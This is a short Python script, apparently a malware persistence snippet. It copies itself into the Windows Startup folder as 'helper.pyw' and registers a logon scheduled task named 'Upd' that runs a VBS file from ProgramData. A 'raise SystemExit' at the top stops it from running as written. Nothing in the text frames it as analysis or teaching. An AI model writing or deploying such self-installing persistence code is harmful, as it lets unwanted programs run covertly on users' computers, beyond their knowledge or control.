import os
import shutil

raise SystemExit
s = os.getenv("APPDATA") + "\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"
shutil.copyfile(__file__, s + "helper.pyw")
os.system('schtasks /create /tn Upd /sc onlogon /tr "wscript C:\\ProgramData\\u.vbs" /f')
